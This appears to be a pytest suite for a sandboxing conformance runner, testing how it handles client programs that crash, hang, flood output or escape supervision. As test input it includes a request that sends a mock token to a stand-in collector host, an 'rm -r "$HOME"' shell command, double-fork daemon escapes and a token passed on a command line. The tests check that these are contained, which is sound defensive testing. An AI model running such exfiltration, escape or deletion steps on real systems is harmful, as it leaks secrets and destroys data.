"""Driving clients that do all that clients do: whatever it is, it is told, and nothing of them is left."""

import json
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from conformance import runner
from conformance.client import Spec, kin, python_callable
from conformance.trace import Trace

Play = Callable[..., Trace]
RATE = 1000.0


@pytest.fixture(scope="module")
def bench() -> Iterator[runner.Bench]:
    with runner.bench() as it:
        yield it


@pytest.fixture
def play(bench: runner.Bench, tmp_path: Path, request: pytest.FixtureRequest) -> Play:
    """`play(code)` plays a client written in Python; `play(spec=...)` any other."""

    def start(
        code: str = "", spec: Spec | None = None, scenario: str = "headers-too-large-for-the-gateway", **how: object
    ) -> Trace:
        path = tmp_path / "client.py"
        path.write_text("import json, os, sys, time\n" + textwrap.dedent(code))
        (told,) = runner.scenarios([scenario])
        play = runner.Play(rate=RATE, deadline_s=2.0, **how)  # type: ignore[arg-type]
        name = f"d{abs(hash(request.node.name)) % 10**9}"
        return runner.Conversation(bench, play, told, name).run(spec or Spec((sys.executable, str(path))))

    return start


DONE = 'print(json.dumps({"type": "done"}), flush=True)'


def test_a_client_that_answers(play: Play) -> None:
    trace = play(f"""
        for line in sys.stdin:
            told = json.loads(line)
            print(json.dumps({{"type": "say", "text": "heard " + told["text"]}}), flush=True)
            print("and no JSON", flush=True)
            {DONE}
    """)

    assert trace.outcome["how"] == "finished"
    assert [message.text for message in trace.messages] == ["how many credits are left?", "credits"]
    assert [[say.text for say in message.says] for message in trace.messages] == [
        ["heard how many credits are left?", "and no JSON"],
        ["heard credits", "and no JSON"],
    ]
    assert all(message.done_ms is not None for message in trace.messages)


@pytest.mark.parametrize(
    ("code", "how"),
    [
        ("sys.exit(3)", "crashed"),
        ("os.kill(os.getpid(), 11)", "crashed"),
        ("sys.stdin.readline()\n1/0", "crashed"),
        ("sys.stdin.readline()\nprint('bye')", "left"),
        ("", "mute"),
        ("time.sleep(60)", "hung"),
        (f"for line in sys.stdin: {DONE}\ntime.sleep(60)", "hung"),
        ("while True: print('x' * 10000)", "flooded"),
        ("print('x' * 3_000_000, end='', flush=True)\ntime.sleep(60)", "flooded"),
        ("while True: print('y')", "flooded"),
    ],
)
def test_a_client_that_does_not(play: Play, code: str, how: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("conformance.runner.conversation.PARTING_S", 1)

    trace = play(code)

    assert trace.outcome["how"] == how
    assert not trace.finished


def test_done_counts_once_for_each_message(play: Play) -> None:
    """Neither too early nor twice: else the next message would come while this one is worked on."""
    trace = play(f"""
        {DONE}
        for line in sys.stdin:
            print(json.dumps({{"type": "say", "text": "hello"}}), flush=True)
            {DONE}
            {DONE}
    """)

    kinds = [entry["kind"] for entry in trace.entries if entry["kind"] in ("user", "done")]
    assert kinds == ["user", "done", "user", "done"]
    assert trace.outcome["how"] == "finished"


def test_halves_of_characters_can_be_written(play: Play) -> None:
    """JSON may hold one, and so may the name of a file."""
    trace = play(f"""
        for line in sys.stdin:
            print(r'{{"type": "say", "text": "a \\ud800 b"}}', flush=True)
            open(b"\\xff.txt", "w").close()
            {DONE}
    """)

    assert "a ? b" in trace.shown
    assert json.dumps(trace.entries, ensure_ascii=False).encode()


def test_a_client_that_does_not_read_holds_up_nobody(play: Play, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Although the message is longer than a pipe is deep."""
    monkeypatch.setattr("conformance.runner.conversation.PARTING_S", 1)
    scenario = tmp_path / "long.yaml"
    scenario.write_text(f"scenario: long\nwhy: A long message.\ncovers: [rule 1]\nmessages:\n  - {'x' * 300_000}\n")

    assert play("time.sleep(60)", scenario=str(scenario)).outcome["how"] == "hung"


def test_its_last_words_are_kept(play: Play) -> None:
    trace = play("sys.exit('I cannot go on')")

    assert (trace.outcome["code"], trace.outcome["stderr"].strip()) == (1, "I cannot go on")


@pytest.mark.skipif(sys.platform != "linux", reason="looks at /proc")
def test_children_that_escape_are_found_and_ended(play: Play, tmp_path: Path) -> None:
    trace = play(f"""
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.close(0), os.close(1), os.close(2)
                open({str(tmp_path / "pid")!r}, "w").write(os.environ["HOME"])
                time.sleep(60)
            os._exit(0)
        while not os.path.exists({str(tmp_path / "pid")!r}):
            time.sleep(0.01)
        for line in sys.stdin:
            {DONE}
    """)

    assert trace.outcome["how"] == "finished"
    assert len(trace.outcome["left"]) == 1 and "client.py" in trace.outcome["left"][0]
    assert not list(kin((tmp_path / "pid").read_text()))


@pytest.mark.skipif(sys.platform != "linux", reason="looks at /proc")
def test_a_daemon_that_has_forgotten_its_home_is_known_by_where_it_stands(play: Play, tmp_path: Path) -> None:
    trace = play(f"""
        import subprocess
        for line in sys.stdin:
            subprocess.Popen(["sleep", "61.5"], env={{}}, start_new_session=True, stdin=-3, stdout=-3, stderr=-3)
            {DONE}
    """)

    assert trace.outcome["left"] == ["sleep 61.5", "sleep 61.5"]


@pytest.mark.skipif(sys.platform != "linux", reason="looks at /proc")
def test_strays_are_ended(tmp_path: Path) -> None:
    """A daemon without home, group and folder, made by a process that is gone."""
    shot = "(setsid env -i PATH=$PATH sleep 62.5 <&- >&- 2>&- &)"
    with runner.strays_ended() as told:
        subprocess.run(["sh", "-c", f"cd / && {shot}"], check=True)

    assert len(told) == 1
    assert not [path for path in Path("/proc").glob("[0-9]*/cmdline") if b"62.5" in read(path)]


def read(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""


def test_what_cannot_be_started_again_leaves_nothing(play: Play, tmp_path: Path) -> None:
    shot = 'cd / && (setsid sleep 63.5 <&- >&- 2>&- &); rm -r "$HOME"; echo {message}'
    trace = play(spec=Spec(("sh", "-c", shot)))

    assert trace.outcome["how"] == "not started" and "its home is gone" in trace.outcome["stderr"]
    assert not [path for path in Path("/proc").glob("[0-9]*/cmdline") if b"63.5" in read(path)]


def test_a_command_that_cannot_be_run(play: Play) -> None:
    trace = play(spec=Spec(("/no/such/client",)))

    assert trace.outcome["how"] == "not started"
    assert "/no/such/client: No such file" in trace.outcome["stderr"]


def test_the_environment_is_clean_and_the_home_private(play: Play, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_OF_MINE", "1")
    trace = play(
        f"""
        for line in sys.stdin:
            print(json.dumps({{"type": "say", "text": json.dumps([dict(os.environ), os.getcwd(), os.listdir(".")])}}), flush=True)
            {DONE}
        """,
        scenario="silent-edit",
        env={"EXTRA": "yes"},
    )

    env, here, files = json.loads(trace.messages[0].says[0].text)
    assert "SECRET_OF_MINE" not in env and env["EXTRA"] == "yes"
    assert env["HOME"] == here and files == ["video.mp4"]
    assert {"NEMO_API_URL", "NEMO_WEB_URL", "SKILL_NAME", "SKILL_VERSION", "NEMO_TIME_RATE"} <= env.keys()
    assert not any("silent" in value for value in env.values())
    assert not Path(here).exists()


def test_one_shot(play: Play, tmp_path: Path) -> None:
    code = tmp_path / "shot.py"
    code.write_text(
        "import sys, pathlib\nlog = pathlib.Path('log'); log.open('a').write(sys.argv[1] + '|')\nprint(log.read_text(), sys.argv[2:])"
    )

    trace = play(spec=Spec((sys.executable, str(code), "{message}", "{files}")))

    assert [message.shown for message in trace.messages] == [
        "how many credits are left?| []",
        "how many credits are left?|credits| []",
    ]
    assert trace.outcome["how"] == "finished"


def test_a_python_callable(play: Play, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "mine.py").write_text(
        "def make(env, show):\n    print('a line for nobody')\n    return lambda text, files: show(env['SKILL_NAME'] + ': ' + text)\n"
    )

    monkeypatch.chdir(tmp_path)
    trace = play(spec=python_callable("mine:make"))

    assert [say.text for say in trace.says] == ["music-to-a: how many credits are left?", "music-to-a: credits"]


BAD_ADAPTERS = {
    "plain words": (b"HTTP/1.0 200 OK\r\n\r\nhello\n", "left", "without 'done'"),
    "no http": (b"NONSENSE\r\n\r\n", "crashed", "NONSENSE"),
    "another place": (b"HTTP/1.0 302 Found\r\nLocation: http://127.0.0.1:9/\r\n\r\n", "crashed", "Found"),
    "a flood": (b"HTTP/1.0 200 OK\r\n\r\n" + b"x\n" * 30_000, "flooded", "floods"),
}


@pytest.mark.parametrize("what", BAD_ADAPTERS)
def test_an_adapter_that_answers_badly(play: Play, what: str) -> None:
    answer, how, words = BAD_ADAPTERS[what]

    class Adapter(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            told = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            self.wfile.write(answer if told["type"] == "user" else b"HTTP/1.0 200 OK\r\n\r\n")

        def log_message(self, format: str, *args: object) -> None: ...

    with ThreadingHTTPServer(("127.0.0.1", 0), Adapter) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        trace = play(spec=Spec(url=f"http://127.0.0.1:{server.server_port}/"))
        server.shutdown()

    assert trace.outcome["how"] == how and words in trace.outcome["stderr"]
    if what == "plain words":
        assert trace.shown == "hello"


def test_an_adapter_that_never_answers(play: Play, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("conformance.client.ANSWERING_S", 0.2)
    with socket.create_server(("127.0.0.1", 0)) as deaf:
        trace = play(spec=Spec(url=f"http://127.0.0.1:{deaf.getsockname()[1]}/"))

    assert trace.outcome["how"] == "not started" and "no answer to 'begin'" in trace.outcome["stderr"]


def test_an_adapter_over_http(play: Play) -> None:
    seen: list[dict[str, object]] = []

    class Adapter(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            told = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            seen.append(told)
            self.send_response(200)
            self.end_headers()
            if told["type"] == "user":
                for line in ({"type": "say", "text": told["text"].upper()}, {"type": "done"}):
                    self.wfile.write(json.dumps(line).encode() + b"\n")

        def log_message(self, format: str, *args: object) -> None: ...

    with ThreadingHTTPServer(("127.0.0.1", 0), Adapter) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        trace = play(spec=Spec(url=f"http://127.0.0.1:{server.server_port}/"))
        server.shutdown()

    assert [say.text for say in trace.says] == ["HOW MANY CREDITS ARE LEFT?", "CREDITS"]
    assert [told["type"] for told in seen] == ["begin", "user", "user", "end"]
    assert trace.outcome["how"] == "finished"


def test_an_adapter_that_is_not_there(play: Play) -> None:
    trace = play(spec=Spec(url="http://127.0.0.1:9/"))

    assert trace.outcome["how"] == "not started" and "refused" in trace.outcome["stderr"]


def test_a_way_out_leads_nowhere_and_takes_notes(play: Play) -> None:
    trace = play(f"""
        import urllib.request
        for line in sys.stdin:
            for url in ("http://collector.example/k?t=nmv_usr_MOCKabc", "https://other.example/"):
                try:
                    urllib.request.urlopen(url, timeout=5)
                except OSError as error:
                    print(json.dumps({{"type": "say", "text": str(error)}}), flush=True)
            {DONE}
    """)

    foreign = [(e["host"], e["method"], e["secret"]) for e in trace.entries if e["kind"] == "foreign"]
    assert foreign[:2] == [("collector.example", "GET", True), ("other.example:443", "CONNECT", False)]
    assert all("403" in say.text for say in trace.says)


@pytest.mark.skipif(sys.platform != "linux", reason="looks at /proc")
def test_a_token_on_a_command_line_is_seen(play: Play) -> None:
    trace = play(f"""
        import subprocess
        for line in sys.stdin:
            subprocess.run([sys.executable, "-c", "import time; time.sleep(0.8)", "Bearer nmv_usr_MOCKabc"])
            {DONE}
    """)

    assert any("nmv_usr_MOCKabc" in entry["text"] for entry in trace.entries if entry["kind"] == "argument")


def test_idle_days_are_skipped_and_restarts_are_starts(play: Play) -> None:
    trace = play(
        f"""
        for line in sys.stdin:
            print(json.dumps({{"type": "say", "text": str(os.getpid())}}), flush=True)
            {DONE}
        """,
        scenario="client-comes-back",
    )

    first, second = trace.messages
    assert first.shown != second.shown
    assert second.at_ms - first.at_ms > 500_000_000 and trace.outcome["jumped_ms"] > 500_000_000


def test_a_client_that_scales_its_waits_is_told_from_one_that_sleeps(tmp_path: Path) -> None:
    reference = Path(__file__).parents[2] / "fixtures" / "clients" / "reference"
    deaf = tmp_path / "deaf.py"
    deaf.write_text(
        f"import os, runpy, sys\nos.environ.pop('NEMO_TIME_RATE')\nsys.argv = ['x']\nrunpy.run_path({str(reference)!r}, run_name='__main__')"
    )

    assert runner.probe(Spec((sys.executable, str(reference))), runner.Play(rate=200)).scales
    found = runner.probe(Spec((sys.executable, str(deaf))), runner.Play(rate=200, deadline_s=3))
    assert not found.scales and "does not scale" in found.why


@pytest.mark.parametrize(("number", "status"), [(signal.SIGINT, 1), (signal.SIGTERM, 143)])
def test_a_run_that_is_ended_leaves_nothing(tmp_path: Path, number: signal.Signals, status: int) -> None:
    """Neither its clients nor its folder, and nobody waits for them."""
    client = tmp_path / "hangs.py"
    client.write_text(
        f"import os, time\nopen({str(tmp_path)!r} + '/' + str(os.getpid()), 'w').write(os.environ['HOME'])\ntime.sleep(60)"
    )
    words = ["run", "--only", "silent-edit", "--only", "silent-twice", "--quiet", "--", sys.executable, str(client)]
    kit = subprocess.Popen([sys.executable, "-m", "conformance", *words], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    while len(homes := [path for path in tmp_path.iterdir() if path.name.isdigit() and path.read_text()]) < 2:
        assert kit.poll() is None
        time.sleep(0.02)
    folder = Path(homes[0].read_text()).parent

    kit.send_signal(number)
    out, err = kit.communicate(timeout=20)

    assert (kit.returncode, out) == (status, b"") and b"Traceback" not in err
    assert not folder.exists()
    assert [pid.name for pid in homes if Path("/proc", pid.name).exists()] == []
